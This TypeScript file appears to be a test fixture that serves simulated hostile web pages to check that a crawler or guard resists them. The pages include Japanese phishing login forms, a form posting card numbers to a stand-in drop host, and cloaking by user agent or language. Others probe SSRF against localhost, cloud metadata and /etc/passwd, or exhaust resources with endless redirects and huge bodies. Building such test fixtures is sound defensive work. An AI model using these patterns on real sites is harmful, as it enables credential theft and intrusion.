import type { IncomingMessage, ServerResponse } from 'node:http';

/** Where the zoo's names lead: a public address, so that the guard judges as it does outside. Only the test's worker dials it. */
export const ZOO_ADDRESS = '93.184.216.34';

type Animal = (request: IncomingMessage, response: ServerResponse, zoo: Zoo) => void;

export interface Zoo {
  /** A server that must never hear a byte. */
  readonly decoyPort: number;
  readonly visits: Map<string, number>;
}

const page = (body: string, head = ''): string => `<!doctype html><html lang=ja><meta charset=utf-8><meta name=viewport content="width=device-width">${head}<body>${body}`;
const html = (body: string, head = '', status = 200): Animal => (_request, response) => { response.writeHead(status, { 'content-type': 'text/html; charset=utf-8' }).end(page(body, head)); };
const login = '<form method=post action=/take><label>アカウント <input name=user></label><label>パスワード <input type=password name=pass></label><button>ログイン</button></form>';
const send = (response: ServerResponse, body: string): void => { response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page(body)); };
const redirect = (to: (path: string) => string): Animal => (request, response) => { response.writeHead(302, { location: to(request.url ?? '/') }).end(); };
const script = (code: string, words = 'ようこそ。この頁はただの頁です。'): Animal => html(`<p>${words}</p><script>${code}</script>`);

/** The animals by the first label of their host. Behaviour only; what they copy is in `copies.ts`. */
export const ANIMALS: Readonly<Record<string, Animal>> = {
  plain: html('<h1>会社案内</h1><p>髙﨑商店は①1950年創業の㈱です。株式会社の案内をご覧ください。</p>', '<title>髙﨑商店</title>'),
  activemail: html(`<h1>Active! mail</h1>${login}`, '<title>Active! mail ログイン</title>'),
  door: redirect(() => 'http://activemail.zoo.example/mail/login'),
  steps: (request, response) => {
    const path = request.url ?? '/';
    if (path === '/') send(response, '<form action=/card method=post><label>お名前 <input name=name></label><button>次へ</button></form>');
    else if (path === '/card') send(response, '<form action=https://drop.zoo.example/take method=post><label>カード番号 <input name=cc autocomplete=cc-number></label><label>セキュリティコード <input name=cvv></label></form>');
    else send(response, '<form><label>認証コード <input name=otp autocomplete=one-time-code></label></form>');
  },
  chain: (request, response) => {
    const path = request.url ?? '/';
    if (path === '/') response.writeHead(302, { location: 'http://chain2.zoo.example/meta' }).end();
    else if (path === '/end') send(response, `<h1>到着</h1>${login}`);
    else response.writeHead(404).end();
  },
  chain2: (request, response) => {
    const path = request.url ?? '/';
    if (path === '/meta') response.writeHead(200, { 'content-type': 'text/html' }).end(page('転送中', '<meta http-equiv=refresh content="0;url=/script">'));
    else if (path === '/script') send(response, '<script>setTimeout(() => { location.href = "/post"; }, 100)</script>');
    else send(response, '<form id=f method=post action=http://chain.zoo.example/end><input type=hidden name=a value=b></form><script>document.getElementById("f").submit()</script>');
  },
  agent: (request, response) => { if (/Mobile/.test(request.headers['user-agent'] ?? '')) send(response, login); else html('<h1>404 Not Found</h1>', '', 404)(request, response, { decoyPort: 0, visits: new Map() }); },
  language: (request, response) => { send(response, (request.headers['accept-language'] ?? '').startsWith('ja') ? login : '<p>Welcome to our little cooking blog. Today we bake bread.</p>'); },
  once: (request, response, zoo) => {
    const seen = (zoo.visits.get('once') ?? 0) + 1;
    zoo.visits.set('once', seen);
    if (seen === 1) send(response, login); else response.writeHead(410, { 'content-type': 'text/html' }).end(page('Gone'));
  },
  line: (request, response, zoo) => { if (request.headers['x-line'] === undefined) send(response, login); else html('<h1>404 Not Found</h1>', '', 404)(request, response, zoo); },
  icon: (request, response) => {
    const [one, other] = ['#223355', '#ddaa22'];
    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60">${[0, 1, 2, 3, 4, 5].map((at) => `<rect x="${at * 20}" y="${(at * 37) % 30}" width="13" height="${20 + ((at * 13) % 20)}" fill="${at % 2 === 0 ? one : other}"/>`).join('')}</svg>`;
    if (request.url?.endsWith('svg')) response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(drawing);
    else response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page(`<img src=/logo.svg alt="">${login}`, '<link rel=icon href=/icon.svg>'));
  },
  scripted: html('<noscript>JavaScriptを有効にしてください。</noscript><div id=a></div><script>document.getElementById("a").innerHTML = \'<form><label>パスワード <input type=password></label></form>\'</script>'),
  captcha: html('<h1>Just a moment...</h1><p>Verify you are human by completing the action below.</p>', '<title>Just a moment...</title>', 403),
  parked: html('<h1>parked.example</h1><p>This domain is for sale. Buy this domain today!</p>'),
  suspended: html('<h1>Account Suspended</h1><p>This account has been suspended. Contact your hosting provider.</p>'),
  halted: html('<p>このサイトは現在停止されています。詳しくは管理者へ。アカウントは利用停止中です。サービスは利用停止</p>'),
  blocked: html('<h1>403 Forbidden</h1><p>Access denied.</p>', '', 403),
  missing: html('<h1>Not Found</h1><p>The requested URL was not found on this server.</p>', '', 404),
  broken: html('<h1>Internal Server Error</h1>', '', 500),
  blank: html(''),
  drip: (_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    const timer = setInterval(() => { response.write(' '); }, 100);
    response.on('close', () => { clearInterval(timer); });
  },
  endless: redirect((path) => `/${Number(path.slice(1)) + 1}`),
  endlessmeta: (request, response) => { response.writeHead(200, { 'content-type': 'text/html' }).end(page('', `<meta http-equiv=refresh content="0;url=/${Number((request.url ?? '/').slice(1)) + 1}">`)); },
  endlessscript: script('location.href = "/" + Math.random()'),
  huge: (_request, response) => {
    // As large as anybody will read: two gigabytes are announced, and sent for as long as somebody takes them.
    response.writeHead(200, { 'content-type': 'text/html', 'content-length': '2147483648' });
    const chunk = Buffer.alloc(262_144, 'x');
    const pump = (): void => { while (!response.destroyed && response.write(chunk)); };
    response.on('drain', pump);
    pump();
  },
  popups: script('for (let i = 0; i < 40; i++) window.open("http://plain.zoo.example/?" + i)'),
  alerts: script('for (;;) alert("パスワードが漏えいしました")', 'お使いの端末は感染しています。'),
  download: (_request, response) => { response.writeHead(200, { 'content-type': 'application/zip', 'content-disposition': 'attachment; filename="invoice.zip"' }).end('PK-not-really'); },
  pushes: script('const a = document.createElement("a"); a.href = "http://download.zoo.example/x"; a.download = "x"; document.body.append(a); a.click()'),
  worker: (request, response) => {
    if (request.url === '/sw.js') response.writeHead(200, { 'content-type': 'text/javascript' }).end('self.addEventListener("fetch", () => {})');
    else send(response, '<p id=o>-</p><script>try { navigator.serviceWorker.register("/sw.js").then(() => { o.textContent = "registered"; }, () => { o.textContent = "refused"; }) } catch { o.textContent = "none"; }</script>');
  },
  webrtc: (_request, response, zoo) => { send(response, `<p id=o>-</p><script>const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${zoo.decoyPort}" }, { urls: "turn:127.0.0.1:${zoo.decoyPort}?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("x"); const seen = []; c.onicecandidate = (e) => { if (e.candidate) seen.push(e.candidate.candidate); o.textContent = "candidates: " + seen.join("; "); }; c.createOffer().then((d) => c.setLocalDescription(d));</script>`); },
  inside: (_request, response, zoo) => {
    const targets = [`http://127.0.0.1:${zoo.decoyPort}/`, `http://localhost:${zoo.decoyPort}/`, `http://[::1]:${zoo.decoyPort}/`, 'http://169.254.169.254/latest/meta-data/', `http://rebind2.zoo.example:${zoo.decoyPort}/`, `http://loops.zoo.example:${zoo.decoyPort}/`, 'file:///etc/passwd', `https://127.0.0.1:${zoo.decoyPort}/`, `ws://127.0.0.1:${zoo.decoyPort}/`];
    send(response, `<p id=o></p>${targets.map((target) => `<img src="${target}"><iframe src="${target}"></iframe>`).join('')}<link rel=prefetch href="${targets[0]}"><link rel=preconnect href="${targets[0]}"><script>for (const t of ${JSON.stringify(targets)}) { fetch(t, { mode: "no-cors" }).then(() => { o.textContent += "reached " + t; }, () => {}); try { new WebSocket(t.replace(/^http/, "ws")) } catch {} navigator.sendBeacon(t, "x"); }</script>`);
  },
  tometadata: redirect(() => 'http://169.254.169.254/latest/meta-data/'),
  rebind: html('<p>最初の答え。</p><script>setTimeout(() => fetch("/second"), 50)</script>'),
  busy: script('for (;;) {}', '忙しい頁'),
  hotlinks: html(`<img src="https://www.rakuten.co.jp/logo.png" alt="">${login}`),
  tampered: script('Array.prototype.map = () => "x"; JSON.stringify = () => "{}"; Object.defineProperty(HTMLElement.prototype, "innerText", { get: () => "nothing to see" })', '本当の言葉'),
  frames: html('<iframe srcdoc="&lt;form action=http://drop.zoo.example/&gt;&lt;label&gt;パスワード &lt;input type=password&gt;&lt;/label&gt;&lt;/form&gt;"></iframe>'),
};

/** Answers for every host of the zoo. */
export function zooServer(zoo: Zoo, more: Readonly<Record<string, Animal>> = {}): (request: IncomingMessage, response: ServerResponse) => void {
  return (request, response) => {
    response.on('error', () => {});
    const name = (request.headers.host ?? '').split('.')[0] ?? '';
    if (request.url === '/favicon.ico') { response.writeHead(404).end(); return; }
    const animal = more[name] ?? ANIMALS[name];
    if (animal === undefined) response.writeHead(404).end('no such animal'); else animal(request, response, zoo);
  };
}
